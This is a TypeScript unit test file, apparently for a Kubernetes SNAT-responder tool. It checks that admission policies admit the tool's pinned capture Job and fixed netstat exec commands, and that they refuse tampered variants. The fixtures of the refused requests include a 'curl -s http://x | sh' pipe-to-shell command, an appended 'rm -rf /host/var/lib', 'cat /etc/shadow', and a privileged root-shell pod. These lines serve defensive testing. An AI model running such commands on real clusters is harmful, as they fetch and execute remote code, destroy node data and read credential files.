/**
 * The ValidatingAdmissionPolicies in infra/k8s/optional/, their real CEL evaluated (src/sim/kube/admission.ts,
 * a CEL evaluator from npm) against real request objects: the Job buildCaptureJob makes, and exec options.
 */
import { readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { dumpYaml, loadAllYaml, type V1Job } from '@kubernetes/client-node';
import { describe, expect, it } from 'vitest';
import { buildCaptureJob, captureScript, DEFAULT_CAPTURE_IMAGE } from '../../../src/kube/captureJob.js';
import { NETSTAT_COMMAND, PROC_NET_TCP_COMMAND } from '../../../src/kube/netstat.js';
import { AdmissionPolicies, type AdmissionRequest } from '../../../src/sim/kube/admission.js';
import { loadManifests } from '../../../src/sim/kube/rbac.js';

const K8S = fileURLToPath(new URL('../../../infra/k8s/', import.meta.url));
const OPTIONAL = join(K8S, 'optional');
const PARAMS_FILE = join(OPTIONAL, 'capture-pod-params.yaml');
const RESPONDER = 'system:serviceaccount:snat-responder:snat-responder';
const CAPTURE_NS_LABELS = { 'pod-security.kubernetes.io/enforce': 'privileged' };

/** The parameters the capture-pod policy compares against: the default image and the shipped script. */
function expectedParams(): string {
  const doc = {
    apiVersion: 'v1',
    kind: 'ConfigMap',
    metadata: {
      name: 'snat-responder-capture-params',
      namespace: 'snat-responder',
      labels: { 'app.kubernetes.io/name': 'snat-responder' },
    },
    data: { image: DEFAULT_CAPTURE_IMAGE, script: captureScript() },
  };
  return `# GENERATED from src/kube/capture-script/capture.sh and DEFAULT_CAPTURE_IMAGE (src/kube/captureJob.ts) by\n# UPDATE_CAPTURE_PARAMS=1 npx vitest run test/unit/kube/admissionPolicies.test.ts: do not edit by hand.\n# Parameters of capture-pod-policy.yaml.\n${dumpYaml(doc, { lineWidth: -1 })}`;
}

if (process.env.UPDATE_CAPTURE_PARAMS === '1') writeFileSync(PARAMS_FILE, expectedParams());

const policies = new AdmissionPolicies(loadManifests([K8S, OPTIONAL]));

function jobRequest(job: V1Job, namespace = 'snat-responder'): AdmissionRequest {
  return {
    group: 'batch',
    version: 'v1',
    resource: 'jobs',
    operation: 'CREATE',
    namespace,
    name: job.metadata?.name ?? '',
    userName: RESPONDER,
    object: JSON.parse(JSON.stringify(job)) as Record<string, unknown>,
  };
}

function execRequest(namespace: string, command: readonly string[], userName = RESPONDER): AdmissionRequest {
  return {
    group: '',
    version: 'v1',
    resource: 'pods',
    subresource: 'exec',
    operation: 'CONNECT',
    namespace,
    name: 'some-pod',
    userName,
    object: { kind: 'PodExecOptions', apiVersion: 'v1', command: [...command], container: 'app', stdout: true },
  };
}

const captureJob = () =>
  buildCaptureJob({
    node: 'aks-nodepool1-12345678-vmss000003',
    investigationId: 'inv-1',
    namespace: 'snat-responder',
    image: DEFAULT_CAPTURE_IMAGE,
    traceSeconds: 60,
  });

describe('infra/k8s/optional admission policies', () => {
  it('are both bound', () => {
    expect(policies.boundCount).toBe(2);
  });

  describe('capture-pod-params.yaml', () => {
    it('holds exactly the default image and the shipped capture script', () => {
      expect(readFileSync(PARAMS_FILE, 'utf8')).toBe(expectedParams());
      const [doc] = loadAllYaml(readFileSync(PARAMS_FILE, 'utf8')) as Array<{ data: Record<string, string> }>;
      expect(doc?.data.script).toBe(captureScript());
      expect(doc?.data.image).toBe(DEFAULT_CAPTURE_IMAGE);
    });
  });

  describe('snat-responder-capture-pod', () => {
    it('admits the capture Job as buildCaptureJob makes it', () => {
      expect(policies.review(jobRequest(captureJob()), CAPTURE_NS_LABELS)).toBeNull();
    });

    const variants: Array<[string, (job: V1Job) => void, RegExp]> = [
      [
        'another image (a tag instead of the digest)',
        (j) => {
          const c = j.spec?.template.spec?.containers[0];
          if (c) c.image = 'mcr.microsoft.com/azurelinux/base/core:3.0';
        },
        /pinned capture image/,
      ],
      [
        'a ServiceAccount token',
        (j) => {
          if (j.spec?.template.spec) j.spec.template.spec.automountServiceAccountToken = true;
        },
        /automountServiceAccountToken/,
      ],
      [
        'no automountServiceAccountToken field (defaults to true)',
        (j) => {
          if (j.spec?.template.spec) delete j.spec.template.spec.automountServiceAccountToken;
        },
        /automountServiceAccountToken/,
      ],
      [
        'another command',
        (j) => {
          const c = j.spec?.template.spec?.containers[0];
          if (c) c.command = ['chroot', '/host', '/bin/sh', '-c', 'curl -s http://x | sh', 'snat-capture'];
        },
        /exactly the capture script/,
      ],
      [
        'the capture script with a line appended',
        (j) => {
          const c = j.spec?.template.spec?.containers[0];
          if (c?.command) c.command[4] = `${c.command[4]}\nrm -rf /host/var/lib`;
        },
        /exactly the capture script/,
      ],
      [
        'args next to the command',
        (j) => {
          const c = j.spec?.template.spec?.containers[0];
          if (c) c.args = ['--extra'];
        },
        /exactly the capture script/,
      ],
      [
        'a second (sidecar) container',
        (j) => {
          j.spec?.template.spec?.containers.push({ name: 'side', image: DEFAULT_CAPTURE_IMAGE });
        },
        /one container/,
      ],
      [
        'an init container with another image',
        (j) => {
          if (j.spec?.template.spec) j.spec.template.spec.initContainers = [{ name: 'init', image: 'busybox' }];
        },
        /one container/,
      ],
    ];
    it.each(variants)('refuses a privileged Job with %s', (_what, mutate, message) => {
      const job = captureJob();
      mutate(job);
      const denial = policies.review(jobRequest(job), CAPTURE_NS_LABELS);
      expect(denial?.code).toBe(403);
      expect(denial?.message).toMatch(message);
      expect(denial?.message).toMatch(/^ValidatingAdmissionPolicy 'snat-responder-capture-pod' with binding/);
    });

    it('refuses a bare privileged pod (no Job) in the capture namespace', () => {
      const denial = policies.review(
        {
          group: '',
          version: 'v1',
          resource: 'pods',
          operation: 'CREATE',
          namespace: 'snat-responder',
          name: 'root-shell',
          userName: 'someone',
          object: {
            spec: {
              hostPID: true,
              containers: [{ name: 'sh', image: 'busybox', securityContext: { privileged: true } }],
            },
          },
        },
        CAPTURE_NS_LABELS,
      );
      expect(denial?.code).toBe(403);
    });

    it('leaves unprivileged pods alone, and other namespaces to PodSecurity', () => {
      const plain = jobRequest({
        apiVersion: 'batch/v1',
        kind: 'Job',
        metadata: { name: 'plain' },
        spec: { template: { spec: { containers: [{ name: 'c', image: 'busybox', command: ['true'] }] } } },
      });
      expect(policies.review(plain, CAPTURE_NS_LABELS)).toBeNull();
      const elsewhere = captureJob();
      const c = elsewhere.spec?.template.spec?.containers[0];
      if (c) c.image = 'busybox';
      expect(policies.review(jobRequest(elsewhere, 'default'), {})).toBeNull();
    });
  });

  describe('snat-responder-exec', () => {
    it('admits the two fixed commands outside kube-system', () => {
      expect(policies.review(execRequest('payments', NETSTAT_COMMAND), {})).toBeNull();
      expect(policies.review(execRequest('default', PROC_NET_TCP_COMMAND), {})).toBeNull();
    });

    it('refuses any exec in kube-system, even the fixed commands', () => {
      const denial = policies.review(execRequest('kube-system', NETSTAT_COMMAND), {});
      expect(denial).toMatchObject({ code: 403, reason: 'Forbidden', policy: 'snat-responder-exec' });
      expect(denial?.message).toMatch(/may not exec into pods in kube-system/);
    });

    it.each([
      [['sh', '-c', 'netstat -ptn']],
      [['netstat', '-ptn', '-e']],
      [['cat', '/etc/shadow']],
      [['cat', '/proc/net/tcp']],
      [[]],
    ])('refuses the command %j', (command) => {
      const denial = policies.review(execRequest('payments', command), {});
      expect(denial?.code).toBe(403);
      expect(denial?.message).toMatch(/may exec only/);
    });

    it('refuses an exec that attaches stdin', () => {
      const request = execRequest('payments', NETSTAT_COMMAND);
      request.object.stdin = true;
      expect(policies.review(request, {})?.message).toMatch(/stdin/);
    });

    it('does not apply to other identities (their RBAC decides)', () => {
      expect(policies.review(execRequest('kube-system', ['sh'], 'alice'), {})).toBeNull();
    });
  });
});
